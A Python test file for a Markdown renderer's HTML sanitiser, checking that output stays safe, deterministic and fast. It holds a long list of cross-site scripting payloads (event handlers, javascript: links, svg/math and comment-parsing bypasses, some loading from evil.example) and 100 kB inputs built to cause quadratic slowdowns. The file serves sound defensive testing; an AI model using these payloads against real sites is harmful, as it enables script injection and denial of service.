"""What may come in and what may go out: scripts in every disguise, any text whatever, and texts made to hurt.

The checks parse the output with an HTML parser that rendering does not use.
"""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode

import models.rendering.sanitising
from models.rendering import Anchors, author_ids, plain_text, render
from models.rendering.nesting import DEEPEST
from models.rendering.sanitising import CLEANER


def named(names: str) -> list[str]:
    return names.split(" ")


ELEMENTS = set(
    named(
        "a abbr address article aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl "
        "dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q rp rt "
        "ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr "
        "html head body"
    )
)
ATTRIBUTES = set(
    named(
        "id class title lang dir href rel src alt width height loading align colspan rowspan scope span start "
        "reversed type value open datetime"
    )
)
CLASS = re.compile(
    r"language-[\w+#.\-]+|markdown-alert-(note|tip|important|warning|caution)"
    r"|footnote-(reference|definition|definition-label)"
)
SAFE_DATA = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+", re.IGNORECASE)


def complain(html: str) -> list[str]:
    """Return what a browser could find in the HTML that must not be there."""
    root = LexborHTMLParser(f"<body>{html}").root
    assert root is not None
    complaints: list[str] = []
    for node in root.traverse(include_text=False):
        if node.is_comment_node or node.tag not in ELEMENTS:
            complaints.append(f"element {node.tag}")
        complaints += [
            f"attribute {name}={value} of {node.tag}"
            for name, value in node.attributes.items()
            if not is_harmless(node, name, value or "")
        ]
    return complaints


def is_harmless(node: LexborNode, name: str, value: str) -> bool:
    if name not in ATTRIBUTES:
        return False
    if name == "class":
        return all(CLASS.fullmatch(part) for part in value.split())
    if name in {"href", "src"}:
        scheme = re.match(r"([^/?#]*?):", re.sub(r"[\x00-\x20\x7f-\xa0]", "", value))
        is_raster = node.tag == "img" and SAFE_DATA.fullmatch(value) is not None
        return scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"} or is_raster
    return True


def ids_of(html: str) -> list[str]:
    return [node.attributes["id"] or "" for node in LexborHTMLParser(html).css("[id]")]


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" ONERROR = "alert(1)" title="a"onload=alert(1)>',
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,AAAA,<script>">',
    "<img srcset='javascript:alert(1)' src=x>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#106;avascript&colon;alert(1))",
    "[a](java&#1;script:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "![a](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href="&#x1;javascript:alert(1)">a</a>',
    '<a href=" \x01java\x00script:alert(1)">a</a>',
    '<a href="jav\u00adascript:alert(1)" target=_blank ping=//evil.example>a</a>',
    '<a href="feed:javascript:alert(1)">a</a>',
    "<a href='x' onclick='alert(1)' style='position:fixed'>a</a>",
    '[a](/x "\\" onmouseover=\\"alert(1)")',
    '![a" onerror="alert(1)](/x)',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/?x=<script>alert(1)</script>",
    "www.a.example/'onclick='alert(1)",
    "# a {onclick=alert(1) style=color:red #b}",
    '# a {#b"onclick="alert(1)}',
    "# a {<script>=1}",
    "```<script>\nalert(1)\n```",
    '```js"onclick="alert(1)\nx\n```',
    'a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: b',
    "<p id='\"><script>alert(1)</script>'>a</p>",
    "<h2>&lt;img src=x onerror=alert(1)&gt;</h2>",
    "<svg onload=alert(1)><circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mi xlink:href='javascript:alert(1)'>a</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml ><script>alert(1)</script>?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<iframe src=javascript:alert(1) srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf><applet code=x>",
    "<form action=javascript:alert(1)><input name=submit><button formaction=javascript:alert(1)>a</button></form>",
    "<form id=x><input name=attributes><input name=parentNode autofocus onfocus=alert(1)></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=checkbox checked>",
    "<select onfocus=alert(1) autofocus><option></select>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details ontoggle=alert(1) open>a</details>",
    "<body onload=alert(1)><frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:/a/-alert(1)//><a href=x>a</a>",
    "<link rel=stylesheet href=javascript:alert(1)><link rel=import href=x>",
    "<style>@import 'javascript:alert(1)';</style><style>*{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(javascript:alert(1));width:expression(alert(1))'>a</div>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>a</table>",
    "<p name=x is=y slot=z part=w contenteditable tabindex=1 accesskey=x onfocus=alert(1)>a</p>",
    "<x-widget onclick=alert(1)>a</x-widget><marquee onstart=alert(1)>a</marquee>",
    "<blockquote cite=javascript:alert(1)>a</blockquote><q cite=javascript:alert(1)>a</q>",
    "<p class='pwned language-x'>a</p><code class='language-x evil'>a</code>",
    "<p dir='ltr\"onclick=\"alert(1)' lang='\"><script>'>a</p>",
    "<div markdown=1><script>alert(1)</script></div>",
    "\ufeff<script>alert(1)</script>",
    "<a href='https://a.example' <b onclick=alert(1)>a</a>",
    "<p title='<a'><p title=\"'><img src=x onerror=alert(1)>\">",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_scripts_never_pass(vector: str) -> None:
    """No disguise brings an element, attribute or address through that could run anything."""
    for markdown in (
        vector,
        f"> - {vector}",
        f"text {vector} text",
        f"| {vector} |\n|-|\n| x |",
        f"<div>\n{vector}",
    ):
        rendered = render(markdown, Anchors())
        assert complain(rendered.html) == []
        assert CLEANER.clean(rendered.html) == rendered.html
        assert all(is_link_safe(link.href) for link in rendered.links)


def is_link_safe(href: str) -> bool:
    return not re.match(r"(java|vb|live)script:|data:|feed:", re.sub(r"[\x00-\x20]", "", href), re.IGNORECASE)


def test_the_check_itself_finds_scripts() -> None:
    """The checker of these tests does complain about what it is there for."""
    for html in (
        "<script></script>",
        "<p onclick=x>",
        "<a href='java\tscript:x'>",
        "<p class=x>",
        "<!-- x -->",
    ):
        assert complain(html), html


@pytest.mark.parametrize(
    "element", ["script", "style", "template", "textarea", "iframe", "noscript", "title"]
)
def test_contents_of_scripts_are_no_text(element: str) -> None:
    """What stands in such an element is neither text nor counted, closed or not."""
    assert render(f"a\n\n<{element}>secret</{element}>\n\nb", Anchors()).text == "a\nb"
    assert "secret" not in render(f"a <{element}>secret", Anchors()).text


NESTING = named("a b p div li ul td tr table h2 pre code svg math style summary select")
FRAGMENTS = st.sampled_from(
    [
        *VECTORS,
        *named(
            "* ** _ ` ``` ~~ # ## > - 1. [ ] ( ) ! [^1] [^1]: | |-|-| < > </ & &# &lt; &#1; &nbsp; \\ \" ' = {#a} {"
        ),
        *named(
            "\n \n\n \t \r\n \x00 \ud800 \u2028 \xa0 \x85 茶 é ก https:// https://a.example www.a.example"
        ),
        *(f"<{name}>" for name in NESTING),
        *(f"</{name}>" for name in NESTING),
        *(
            "<p id=a>",
            "<b id=a title='&amp;\">'>",
            "<a href=x>",
            "<a name=a>",
            "<br/>",
            "<!--",
            "-->",
            "<![CDATA[",
        ),
        *(
            '<sup class="footnote-reference"><a href="#a">1</a></sup>',
            "<div markdown=1>",
            "<figure>",
            "<figcaption>",
        ),
        *(
            '<div class="footnote-definition" id="a"><sup class="footnote-definition-label">1</sup>',
            "[a](#a)",
        ),
    ]
)
MARKDOWN = st.lists(FRAGMENTS | st.text(max_size=8), max_size=30).map("".join) | st.text()


@settings(max_examples=400, deadline=None)
@given(MARKDOWN)
def test_any_text_gives_safe_html(markdown: str) -> None:
    """Whatever comes in: nothing is raised, nothing forbidden comes out, and cleaning again changes nothing."""
    rendered = render(markdown, Anchors())
    assert complain(rendered.html) == []
    assert CLEANER.clean(rendered.html) == rendered.html
    assert "\x00" not in rendered.text


@settings(max_examples=200, deadline=None)
@given(st.lists(MARKDOWN, max_size=4))
def test_ids_are_unique_within_an_article(parts: list[str]) -> None:
    """All parts of one article share one set of ids, and none occurs twice."""
    anchors = Anchors()
    anchors.reserve(identifier for part in parts for identifier in author_ids(part))
    issued = [anchors.issue(part) for part in parts]
    found = issued + [found for part in parts for found in ids_of(render(part, anchors, "p").html)]
    assert len(found) == len(set(found))


@settings(max_examples=100, deadline=None)
@given(MARKDOWN)
def test_rendering_is_deterministic(markdown: str) -> None:
    """Two renderings of one text are equal in every byte."""
    assert render(markdown, Anchors(), "p") == render(markdown, Anchors(), "p")


@settings(max_examples=200, deadline=None)
@given(MARKDOWN)
def test_plain_text_is_one_line(markdown: str) -> None:
    """Plain text of anything is one line without control characters."""
    assert not re.search(r"[\x00-\x1f\x7f\ud800-\udfff]|^\s|\s$", plain_text(markdown))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.booleans(), st.text(max_size=5) | st.sampled_from(["a", "a-2", "A", "a 2"]))))
def test_anchors_are_handed_out_once(asked: list[tuple[bool, str]]) -> None:
    """Kept or issued, an anchor is never empty, holds no white space and comes once."""
    anchors = Anchors()
    given_out = [anchors.keep(text) if is_own else anchors.issue(text) for is_own, text in asked]
    assert len(given_out) == len(set(given_out))
    assert not any(re.search(r"\s", anchor) or not anchor for anchor in given_out)


SIZE = 100_000
HARMFUL = {
    "quotes": ">" * SIZE,
    "lists": "1. " * (SIZE // 3),
    "brackets": "[" * SIZE,
    "stars": "*a **b " * (SIZE // 7),
    "emphasis": "*_" * (SIZE // 4) + "a" + "_*" * (SIZE // 4),
    "links": "[a](" * (SIZE // 4),
    "pictures": "![" * (SIZE // 7) + "a" + "](b)" * (SIZE // 7),
    "comments": "a <!-- " * (SIZE // 7),
    "comments in a block": "<div>\n" + "<!-- " * (SIZE // 5),
    "declarations": "<div>\n" + "<!A " * (SIZE // 4),
    "instructions": "<div>\n" + "<? " * (SIZE // 3),
    "backticks": "a".join("`" * length for length in range(1, 440)),
    "blocks": "<div>" * (SIZE // 5),
    "inline elements": "a " + "<span>" * (SIZE // 6),
    "formatting": "a " + "".join(f"<b id={number}>" for number in range(SIZE // 12)) + "<p>" * 9000,
    "formatting over list items": f"<ul><li><b title={'y' * 9000}>" + "<li>x" * (SIZE // 6),
    "formatting over paragraphs": f"<div><p><b title={'y' * 9000}>" + "<p>x" * (SIZE // 5),
    "formatting over rows": f"<table><tr><b title={'y' * 9000}>" + "<tr>x" * (SIZE // 6),
    "formatting over cells": f"<table><tr><td><b title={'y' * 9000}>" + "<td>x" * (SIZE // 6),
    "formatting over links": "x <a><b>" * (SIZE // 8),
    "tables": "<table><tr><td>" * (SIZE // 15),
    "scripts": "<div>\n" + "<script>" * (SIZE // 8),
    "open tag": "<div>\n<a " + "b " * (SIZE // 2),
    "open quotes": "<div>\n" + "<a b='" * (SIZE // 6),
    "long name": "<div>\n<" + "a" * SIZE,
    "ampersands": "&" * SIZE,
    "ampersands in an address": "[x](y?" + "&" * SIZE + ")",
    "ampersands in a title": "<b title='" + "&" * SIZE + "'>x",
    "digits of an entity": "<b>&#" + "9" * SIZE + ";",
    "headings": "# a\n" * (SIZE // 4),
    "equal ids": "<p id=a>" * (SIZE // 8),
    "footnotes": "[^a]" * (SIZE // 4) + "\n\n[^a]: x",
    "addresses": "https://a.b " * (SIZE // 12),
    "brackets after an address": "https://a.b/" + ")" * SIZE,
    "hosts": "https://" + "a." * (SIZE // 2),
    "figures": "<figure><img src=a><figcaption>b" * (SIZE // 32),
    "captions": "<figure>\n" + "<figcaption>b</figcaption><img src=a>" * (SIZE // 37),
    "kramdown blocks": "<div " + "a markdown=1" * (SIZE // 12),
    "spaces in a kramdown block": "<div markdown=1>" + " " * SIZE + "x",
    "combining marks": "# " + "\u0301" * SIZE,
    "one line": "tea " * (SIZE // 4),
    "NUL": "\x00" * SIZE,
}


@pytest.mark.parametrize("name", HARMFUL)
def test_harmful_texts_take_little_time(name: str) -> None:
    """100 kB made for quadratic time or space take less than two seconds and 40 times the space."""
    started = time.process_time()
    rendered = render(HARMFUL[name], Anchors())
    assert time.process_time() - started < 2
    assert len(rendered.html) < 40 * SIZE


@pytest.mark.parametrize("name", ["quotes", "lists", "emphasis", "blocks", "inline elements", "tables"])
def test_depth_is_limited(name: str) -> None:
    """However deep a text nests, its HTML stays at a depth that clients can walk."""
    depth = deepest = 0
    for end, tag in re.findall(r"<(/?)([a-z0-9]+)", render(HARMFUL[name], Anchors()).html):
        if tag not in {"br", "col", "hr", "img", "wbr"}:
            depth += -1 if end else 1
            deepest = max(deepest, depth)
    assert deepest <= 3 * DEEPEST


def test_text_survives_the_limit_of_depth() -> None:
    """Where nesting goes too deep only the levels are lost, never the text."""
    assert render("<div>" * 500 + "tea" + "</div>" * 500 + "\n\nafter", Anchors()).text == "tea\nafter"
    assert render(">" * 500 + "tea", Anchors()).text == "tea"


def test_many_ampersands_are_all_kept() -> None:
    """The cut that keeps the sanitiser fast leaves no trace in what it writes."""
    count = models.rendering.sanitising.MANY_AMPERSANDS * 3 + 7
    assert render("&x " * count, Anchors()).html == f"<p>{('&amp;x ' * count).strip()}</p>\n"
